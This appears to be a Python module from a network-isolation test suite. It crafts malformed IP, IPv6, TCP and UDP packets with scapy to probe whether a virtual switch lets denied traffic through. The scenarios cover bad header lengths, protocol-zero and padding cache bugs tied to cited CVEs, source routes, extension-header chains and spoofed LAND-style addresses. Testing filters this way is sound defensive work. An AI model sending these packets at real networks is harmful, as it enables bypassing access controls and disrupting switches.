"""IP and transport headers that are not as they should be."""

from __future__ import annotations

import os
from collections.abc import Iterator

from scapy.layers.inet import IP, TCP, UDP, IPOption, IPOption_LSRR, IPOption_Router_Alert, IPOption_RR, IPOption_SSRR
from scapy.layers.inet6 import (
    IPv6,
    IPv6ExtHdrDestOpt,
    IPv6ExtHdrHopByHop,
    IPv6ExtHdrRouting,
    Jumbo,
)
from scapy.packet import Padding, Raw

from attack.frames import Packet, echo, ether, tcp
from attack.scenario import ATTACKS, Granted, Group
from attack.trial import Trial

group = Group("headers", ATTACKS)


def _to_both(trial: Trial, label: str, packet: Packet, target: str) -> None:
    """One packet from each attacker; the addresses in it are the insider's."""
    for attacker in trial.attackers:
        token = trial.mark(attacker, f"{label} to {target} by {attacker}")
        trial.send(attacker, [ether(trial.mac(attacker), trial.mac(target)) / packet / Padding(token)])


def _each(trial: Trial, packets: Iterator[tuple[str, Packet]], target: str) -> None:
    for label, packet in packets:
        _to_both(trial, label, packet, target)


@group.scenario(
    "ip-protocol-zero",
    reference="CVE-2023-1668",
    tried="IPv4 with protocol 0 and IPv6 without a next header, then what is denied between the same hosts",
    success="the odd packet reaches a host, or what it makes the switch cache lets the denied one through",
    covers=("proto-zero",),
    quick=True,
)
def protocol_zero(trial: Trial) -> None:
    """Affected switches cache such a packet's verdict for all protocols."""
    insider, server = trial.cast.insider, trial.cast.server
    head = ether(trial.mac(insider), trial.mac(server))
    source, target = trial.ip(insider), trial.ip(server)
    for label, packet in (("protocol 0", IP(src=source, dst=target, proto=0) / Raw(bytes(40))),):
        token = trial.mark(insider, label)
        trial.send(insider, [head / packet / Padding(token)] * 3)
    token = trial.mark(insider, "denied TCP behind it")
    trial.send(insider, [head / tcp(source, target, 40200, 9, "S", token)] * 3)
    for address in trial.arena.host(insider).addresses:
        if address.version == 6:
            token = trial.mark(insider, "no next header")
            empty = IPv6(src=trial.ip(insider, 6), dst=trial.ip(server, 6), nh=59) / Raw(bytes(40))
            trial.send(insider, [head / empty / Padding(token)] * 3)


def _lengths(src: str, dst: str) -> Iterator[tuple[str, Packet]]:
    segment = bytes(TCP(sport=40201, dport=443, flags="S"))
    for ihl in (0, 1, 4, 15):
        yield f"IHL {ihl}", IP(src=src, dst=dst, proto=6, ihl=ihl) / Raw(segment)
    for total in (0, 19, 21, 65535):
        yield f"total length {total}", IP(src=src, dst=dst, proto=6, len=total) / Raw(segment)
    for version in (0, 5, 6, 15):
        yield f"version {version}", IP(src=src, dst=dst, proto=6, version=version) / Raw(segment)
    for offset in (0, 4, 15):
        yield f"TCP data offset {offset}", IP(src=src, dst=dst) / TCP(sport=40201, dport=443, dataofs=offset)
    for length in (0, 7, 65535):
        yield f"UDP length {length}", IP(src=src, dst=dst) / UDP(sport=40201, dport=53, len=length)


@group.scenario(
    "bad-lengths-ipv4",
    reference="RFC 791 §3.1, CVE-2020-35498",
    tried="wrong header lengths, total lengths, versions, TCP offsets and UDP lengths",
    success="any of them reaches a host that its sender may not talk to",
    covers=("header-length",),
    quick=True,
    version=4,
)
def bad_lengths(trial: Trial) -> None:
    """What a parser believes before it counts."""
    victim = trial.cast.victim
    _each(trial, _lengths(trial.ip(trial.cast.insider), trial.ip(victim)), victim)


def _lengths6(src: str, dst: str) -> Iterator[tuple[str, Packet]]:
    segment = bytes(TCP(sport=40202, dport=443, flags="S"))
    for length in (0, 1, 65535):
        yield f"payload length {length}", IPv6(src=src, dst=dst, nh=6, plen=length) / Raw(segment)
    for version in (0, 4, 15):
        yield f"version {version}", IPv6(src=src, dst=dst, nh=6, version=version) / Raw(segment)
    yield "extension beyond the end", IPv6(src=src, dst=dst, nh=60) / Raw(bytes((6, 255)) + bytes(6))
    yield (
        "jumbogram",
        IPv6(src=src, dst=dst, plen=0) / IPv6ExtHdrHopByHop(options=[Jumbo(jumboplen=70000)]) / Raw(segment),
    )


@group.scenario(
    "bad-lengths-ipv6",
    reference="RFC 8200 §3, RFC 2675",
    tried="wrong payload lengths, versions, an extension header that is longer than its packet, a jumbogram",
    success="any of them reaches a host that its sender may not talk to",
    covers=("header-length", "extension-headers"),
    quick=True,
    version=6,
)
def bad_lengths6(trial: Trial) -> None:
    """The same in IPv6."""
    victim = trial.cast.victim
    _each(trial, _lengths6(trial.ip(trial.cast.insider, 6), trial.ip(victim, 6)), victim)


@group.scenario(
    "ip-options",
    reference="RFC 7126, CVE-1999-0909",
    tried="loose and strict source routes, record route, router alert and an unknown option, in permitted SYNs too",
    success="a packet with an option reaches a host",
    covers=("options",),
    quick=True,
    version=4,
    granted=Granted("Open vSwitch cannot match options", ".* from {source} to {target}"),
)
def options(trial: Trial) -> None:
    """A source route leads past what looked at the destination."""
    permit = trial.cast.service
    unknown = IPOption(b"\x99\x06abcd")
    for source, target in ((trial.cast.insider, trial.cast.victim), (permit.source, permit.target)):
        via = trial.ip(target)
        for label, option in {
            "loose route": IPOption_LSRR(routers=[via]),
            "strict route": IPOption_SSRR(routers=[via]),
            "record route": IPOption_RR(routers=["0.0.0.0"] * 3),  # noqa: S104 - room in an option
            "router alert": IPOption_Router_Alert(),
            "unknown": unknown,
        }.items():
            token = trial.mark(source, f"{label} from {source} to {target}")
            packet = IP(src=trial.ip(source), dst=via, options=[option]) / TCP(
                sport=40203, dport=permit.port, flags="S"
            )
            trial.send(source, [ether(trial.mac(source), trial.mac(target)) / packet / Padding(token)])


@group.scenario(
    "extension-header-chains",
    reference="RFC 7112, RFC 5095, CVE-2007-2242",
    tried="extension headers in front of a denied SYN; routing type 0, AH, a wrong order and forty in a row before any",
    success="a denied SYN reaches a host, or a permitted one behind headers that no host has a use for",
    covers=("extension-headers",),
    quick=True,
    version=6,
    granted=Granted("Open vSwitch cannot match extension headers", ".* from {source} to {target}"),
)
def chains(trial: Trial) -> None:
    """What stands in front of TCP hides its ports from a switch."""
    permit = trial.cast.service
    plain = {"hop-by-hop": IPv6ExtHdrHopByHop(), "destination": IPv6ExtHdrDestOpt()}
    pairs = [(trial.cast.insider, trial.cast.victim, plain), (permit.source, permit.target, {})]
    for source, target, more in pairs:
        address = trial.ip(target, 6)
        forty = IPv6ExtHdrDestOpt()
        for _ in range(39):
            forty = forty / IPv6ExtHdrDestOpt()
        extensions = {
            **more,
            "hop-by-hop twice": IPv6ExtHdrHopByHop() / IPv6ExtHdrHopByHop(),
            "hop-by-hop behind destination": IPv6ExtHdrDestOpt() / IPv6ExtHdrHopByHop(),
            "routing type 0": IPv6ExtHdrRouting(type=0, addresses=[address]),
            "forty": forty,
            "AH": Raw(bytes((6, 4)) + bytes(22)),
        }
        for label, extension in extensions.items():
            token = trial.mark(source, f"{label} from {source} to {target}")
            packet = IPv6(src=trial.ip(source, 6), dst=address, **({"nh": 51} if label == "AH" else {}))
            whole = packet / extension / TCP(sport=40204, dport=permit.port, flags="S") / Padding(token)
            trial.send(source, [ether(trial.mac(source), trial.mac(target)) / whole])


@group.scenario(
    "strange-addresses",
    reference="RFC 1122 §3.2.1.3, CVE-1999-0016 (LAND)",
    tried="sources that are the target itself, loopback, broadcast, a group or nobody, and targets of that kind",
    success="any of them reaches a host",
    covers=("spoof", "amplification"),
    quick=True,
    version=4,
)
def strange_addresses(trial: Trial) -> None:
    """With the frame addressed to the server's card."""
    server = trial.cast.server
    target, own = trial.ip(server), trial.ip(trial.cast.insider)
    nobody, everybody = "0.0.0.0", "255.255.255.255"  # noqa: S104 - addresses in packets
    pairs = [(source, target) for source in (target, "127.0.0.1", everybody, "224.0.0.1", nobody, "240.0.0.1")]
    pairs += [(own, other) for other in ("127.0.0.1", everybody, "224.0.0.1", nobody, own)]
    for source, destination in pairs:
        _to_both(trial, f"{source} → {destination}", echo(source, destination, b"strange"), server)


def _protocols(src: str, dst: str) -> Iterator[tuple[str, Packet]]:
    for number in (2, 4, 41, 47, 50, 51, 58, 88, 89, 97, 103, 112, 115, 132, 137, 255):
        yield f"protocol {number}", IP(src=src, dst=dst, proto=number) / Raw(os.urandom(32))


@group.scenario(
    "ip-protocols",
    reference="RFC 2003, RFC 2473, RFC 2784; nmap -sO",
    tried="sixteen IP protocols: tunnels (IP in IP, 6in4, GRE, ESP, AH, L2TP), routing, SCTP and reserved ones",
    success="any of them reaches a host that its sender may not talk to",
    covers=("proto-zero",),
)
def protocols(trial: Trial) -> None:
    """Whatever a rule does not name."""
    victim = trial.cast.victim
    _each(trial, _protocols(trial.ip(trial.cast.insider), trial.ip(victim)), victim)


@group.scenario(
    "padding",
    reference="CVE-2020-35498",
    tried="packets with 300 bytes of padding behind them, denied ones and then the same without",
    success="either reaches a host, or the honest pair is cut off by what the switch has cached",
    covers=("header-length",),
)
def padding(trial: Trial) -> None:
    """Affected switches forget the ports of such a packet, and cache its verdict for all ports."""
    victim = trial.cast.victim
    source, target = trial.ip(trial.cast.insider), trial.ip(victim)
    for attacker in trial.attackers:
        head = ether(trial.mac(attacker), trial.mac(victim))
        for label, extra in (("padded", bytes(300)), ("plain", b"")):
            token = trial.mark(attacker, f"{label} by {attacker}")
            packet = IP(src=source, dst=target) / TCP(sport=40205, dport=443, flags="S")
            trial.send(attacker, [head / packet / Padding(extra + token)] * 3)
